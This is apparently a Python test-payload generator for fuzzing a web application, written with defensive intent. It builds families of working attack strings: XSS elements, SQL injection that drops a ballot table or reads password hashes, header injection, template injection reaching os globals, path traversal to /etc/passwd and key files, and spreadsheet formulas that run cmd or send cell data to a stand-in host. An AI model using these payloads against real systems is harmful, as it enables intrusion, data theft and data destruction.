"""What somebody hostile types: put together from families of contexts and encodings, the same at every run.

A payload that came alive would leave the word `pwned` as a script's variable, a tag, a header or a file, or the
product of two odd numbers where a template was carried out. The markup among them is kept short, for most of our
fields are.
"""

import re
from collections.abc import Iterator
from itertools import chain, product
from random import Random
from urllib.parse import quote

#: What stands in nearly every payload and in nothing of ours.
MARK = "pwned"

#: A template that was carried out would say the product.
_FACTORS = (7919, 7907)
CARRIED_OUT = str(_FACTORS[0] * _FACTORS[1])

_RUN = f"{MARK}=1"

_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<script src=//{MARK}.example></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_RUN}>x</a>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<math><mi xlink:href=javascript:{_RUN}>x",
    f"<a href=javascript:{_RUN}>x</a>",
    f'<a href="//{MARK}.example">x</a>',
    f"<b>{MARK}</b>",
    f"<form action=javascript:{_RUN}><button>x",
    f"<button formaction=javascript:{_RUN}>x",
    f"<meta http-equiv=refresh content=0;//{MARK}.example>",
    f"<base href=//{MARK}.example>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<style>@import'//{MARK}.example'</style>",
    f"<p style=x:expression({_RUN})>",
    f"<marquee onstart={_RUN}>",
    f"<template><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<x-{MARK} contenteditable onfocus={_RUN}>",
    f"<?xml-stylesheet href=javascript:{_RUN}?>",
)

#: What closes the place that a value may stand in, before an element of one's own.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "-->",
    "]]>",
)

_SPACES = (" ", "\t", "\n", "/", "\x0c")
_HANDLERS = ("onfocus", "onmouseover", "onerror", "ONCLICK")

_SCRIPT = f"<script>{_RUN}</script>"


#: Alive in a text, in an attribute with and without quotes, in a template and in SQL, and short enough for every field.
AT_ONCE = (f"'\"> <{MARK} x=1>{{{{{_FACTORS[0]}*{_FACTORS[1]}}}}}", f"</textarea></title><img onerror={_RUN}>'")


def _elements() -> Iterator[str]:
    """Each element by itself and behind two ways out, so that each way out comes with many elements."""
    for number, element in enumerate(_ELEMENTS):
        yield element
        for step in (1, 4, 7):
            yield _WAYS_OUT[1 + (number + step) % (len(_WAYS_OUT) - 1)] + element


def _attributes() -> Iterator[str]:
    """Out of an attribute's value and into an attribute of one's own."""
    for mark, space, handler in product(("'", '"', ""), _SPACES, _HANDLERS):
        yield f"{mark}{space}{handler}={_RUN}{space}autofocus{space}x={mark}"


def _scripts() -> Iterator[str]:
    """Out of a text within a script, or of JSON."""
    for mark, end in product(("'", '"', "`", "\\'", '\\"', "\u2028", "*/"), ("//", "/*", "<!--")):
        yield f"{mark};{_RUN};{end}"
    yield f'"}}];{_RUN};[{{"'
    yield f'","__proto__":{{"{MARK}":1}},"x":"'
    yield f"${{{_RUN}}}"
    yield f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e"
    yield f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e"


def _addresses() -> Iterator[str]:
    """Where a link or a form may lead."""
    for scheme in ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", " javascript"):
        yield f"{scheme}:{_RUN}"
        yield f"{scheme}://127.0.0.1:8000/%0a{_RUN}"
    for scheme in ("javascript&colon;", "&#106;avascript:", "javascript&#58;", "vbscript:", "livescript:"):
        yield f"{scheme}{_RUN}"
    yield f"data:text/html,{_SCRIPT}"
    yield f"data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+#{MARK}"
    yield f"data:image/svg+xml,<svg onload={_RUN}>"
    for start in ("//", "/\\", "\\\\", "///", "https:", "https://127.0.0.1:8000@", "/staff//", "/staff\\..\\\\", "?//"):
        yield f"{start}{MARK}.example/"
    yield f"/staff/../..//{MARK}.example"
    yield f"/staff%2f%2f{MARK}.example"
    yield f"/results?x=//{MARK}.example"


def _encoded() -> Iterator[str]:
    """One script in every writing that something on the way might read back into markup."""
    writings = (
        "".join(f"&#{ord(mark)};" for mark in "<script>"),
        "".join(f"&#x{ord(mark):x};" for mark in "<script>"),
        "".join(f"&#{ord(mark):07d}" for mark in "<script>"),
        "&lt;script&gt;",
        "&amp;lt;script&amp;gt;",
        "&LT;script&GT;",
        quote("<script>"),
        quote(quote("<script>")),
        quote(quote(quote("<script>"))),
        "%u003cscript%u003e",
        "\\u003Cscript\\u003E",
        "+ADw-script+AD4-",
        "＜script＞",
        "﹤script﹥",
        "‹script›",
        "<scr\0ipt>",
        "<scr\u00adipt>",
        "<\u200bscript>",
        "<SCRİPT>",
        "<ſcript>",
        "<scr<script>ipt>",
        "<<script>",
        "<script\x0c>",
        "<script/x>",
        "<script\n>",
        "< script>",
        "%3Cscript%3E",
        "\xc0\xbcscript\xc0\xbe",
        "¼script¾",
    )
    for opening in writings:
        yield f"{opening}{_RUN}"
        yield f"\"'>{opening}{_RUN}//"


def _sql() -> Iterator[str]:
    """Out of a text within a statement."""
    acts = (
        f"or '{MARK}'='{MARK}",
        f"or 1=1 or {MARK}=1",
        f"union select password_hash from staff where '{MARK}'<>'",
        f"; drop table ballot; select {MARK}",
        f"; update staff set enabled=1 where 1=1 or {MARK}",
        f"; insert into unit values('{MARK}','{MARK}',null)",
        f"and randomblob(1e9)={MARK}",
        f"and load_extension('{MARK}')",
        f"; attach database '{MARK}.db' as {MARK}",
        f"||(select group_concat(name) from staff)||'{MARK}",
        f"like '%{MARK}%' escape '%",
    )
    ends = ("", " --", " /*", "; --\0")
    for number, (mark, act) in enumerate(product(("'", '"', "')", "`", "1"), acts)):
        yield f"{mark} {act}{ends[number % len(ends)]}"
    yield f":{MARK} ?1 @{MARK} $unit"
    yield f"{MARK}%_\\%"


def _headers() -> Iterator[str]:
    """Out of a header's value and into a header, or a page, of one's own."""
    ends = ("\r\n", "\n", "\r", "%0d%0a", "%0D%0A", "%250d%250a", "\\r\\n", "\u2028", "\u2029", "\x85", "\x0b", "\x1e")
    # a server that keeps the last byte of a letter alone would make line ends of these
    ends += ("\u560d\u560a", "\u010d\u010a")
    said = (
        f"Set-Cookie: {MARK}=1",
        f"Location: https://{MARK}.example",
        f"X-{MARK}: 1",
        f"Content-Length: 0{{end}}{{end}}<{MARK}>",
    )
    for end, one in product(ends, said):
        yield f"sv{end}{one.replace('{end}', end)}"


def _templates() -> Iterator[str]:
    """What a template engine would carry out."""
    sum_ = f"{_FACTORS[0]}*{_FACTORS[1]}"
    around = ("{{%s}}", "{%%print(%s)%%}", "${%s}", "#{%s}", "<%%=%s%%>", "{{=%s}}", "*{%s}", "@(%s)", "[[%s]]", "{%s}")
    around += ("{$%s}", "{php}echo %s;{/php}", "$(echo $((%s)))", "`expr %s`", "<#assign x=%s>${x}", "#set($x=%s)$x")
    for form in around:
        yield form % sum_
        yield f"{MARK}{form % sum_}'\""
    for inside in (
        "config",
        "self.__init__.__globals__",
        "cycler.__init__.__globals__.os",
        "request.environ",
        "g.member",
    ):
        yield f"{{{{{inside}}}}}{MARK}"
        yield f"{{%set x={inside}%}}{{{{x}}}}{MARK}"
    yield f"%(name)s%s%n%d%%{MARK}"
    yield f"{{0.__class__}}{{name}}{MARK}"
    yield f"{{{{ {sum_}|safe }}}}"
    yield f"{{{{'<{MARK}>'|safe}}}}"
    yield f"{{{{joiner('<{MARK}>'|safe)}}}}"
    yield f"{{#{MARK}#}}"


def _paths() -> Iterator[str]:
    """Up from where a file may be looked for."""
    ups = (
        "../",
        "..\\",
        "%2e%2e%2f",
        "%252e%252e%252f",
        "....//",
        "..;/",
        "%c0%ae%c0%ae/",
        "．．／",
        "..%5c",
        "/./../",
    )
    for up, target in product(ups, ("etc/passwd", "keys/pepper", f"{MARK}/enkat.db")):
        yield up * 3 + target
    for start in ("/", "file:///", "C:\\", "\\\\?\\", "~/", "php://filter/", "/proc/self/"):
        yield f"{start}etc/{MARK}"
    yield f"../../keys/{MARK}\0.svg"
    yield f"../../keys/{MARK}%00.svg"


def _formulas() -> Iterator[str]:
    """What a spreadsheet would carry out, and what might hide its beginning. A unit's name has no plus."""
    starts = ("=", "-", "@", "+", "＝", "－", "＠", "＋", "\t=", "\r=", "\n=", " =", '"=', "'=", ";=", ",=", "\u200b=")
    starts += (f"{MARK};=", f"{MARK},=", f"{MARK}\t=", f"{MARK};@", f"{MARK};-", f'{MARK}";=', f"{MARK};＝")
    formulas = (
        f"cmd|' /C {MARK}'!A0",
        f'HYPERLINK("//{MARK}.example?"&A1;"x")',
        f"WEBSERVICE('//{MARK}.example')",
        f'DDE("cmd";"/C {MARK}";"x")',
    )
    for number, start in enumerate(starts):
        for step in (0, 1):
            yield start + formulas[(number + step) % len(formulas)]
    yield f"{MARK};=cmd|' /C {MARK}'!A0;"
    yield f"-2-3-cmd|' /C {MARK}'!A0"
    yield f"@SUM(1;1)*cmd|'{MARK}'!A0"


def _letters() -> Iterator[str]:
    """Letters that cannot be seen, that turn the writing round, that grow or that change when they are folded."""
    alone = chain(
        range(0x01, 0x20),
        (0x7F, 0x80, 0x85, 0x9B, 0xA0, 0xAD),
        (0x061C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F),
        range(0x2028, 0x202F),
        range(0x2060, 0x206A),
        (0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0xE000, 0x1FFFE, 0xE0001, 0xE0041, 0x10FFFF),
    )
    for letter in alone:
        yield f"M{chr(letter)}{MARK}"
    yield f"\0{MARK}"
    yield f"{MARK}\0"
    yield f"{MARK}\0<b>"
    yield f"\u202e>{MARK}<\u202c"
    yield f"\u2067{MARK}\u2069=1+1"
    yield f"{MARK}\x1b[2J\x1b]0;{MARK}\x07"
    yield MARK + "Z" + "\u0334\u0321\u0322" * 20
    yield f"ŉﬀßİı{MARK}"
    yield f"K{MARK}Å"  # the signs for kelvin and ångström
    yield "\U0001f9d1\u200d\U0001f9d1" * 5 + MARK
    yield f"{MARK}＇＂〈〉〟ʼ"
    yield MARK * 500
    yield "<" * 1990 + MARK
    yield f"مرحبا{MARK}<b>"


#: Every payload by the family it belongs to.
FAMILIES: dict[str, tuple[str, ...]] = {
    "all at once": AT_ONCE,
    "an element": tuple(_elements()),
    "an attribute": tuple(_attributes()),
    "a script": tuple(_scripts()),
    "an address": tuple(_addresses()),
    "another writing": tuple(_encoded()),
    "SQL": tuple(_sql()),
    "a header": tuple(_headers()),
    "a template": tuple(_templates()),
    "a path": tuple(_paths()),
    "a formula": tuple(_formulas()),
    "letters": tuple(_letters()),
}

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(chain.from_iterable(FAMILIES.values())))

#: Those that a browser is shown first: each is alive where it is not escaped, and short enough for most fields.
NASTIEST: tuple[str, ...] = tuple(
    one for family in ("an element", "an attribute", "another writing") for one in FAMILIES[family] if len(one) <= 80
)


def sample(random: Random, number: int) -> list[str]:
    """What is alive nearly everywhere, and so many payloads more, from as many families as there are."""
    families = random.sample(list(FAMILIES), len(FAMILIES))
    return [AT_ONCE[0], *(random.choice(FAMILIES[families[place % len(families)]]) for place in range(number))]


_ALIVE = re.compile(r"[<>\"'&={}$`#*\[\]]")


def harmless(text: str, instead: str = "!") -> str:
    """The same text, as long and with the same spaces, of which nothing can come alive anywhere."""
    return _ALIVE.sub(instead, text)
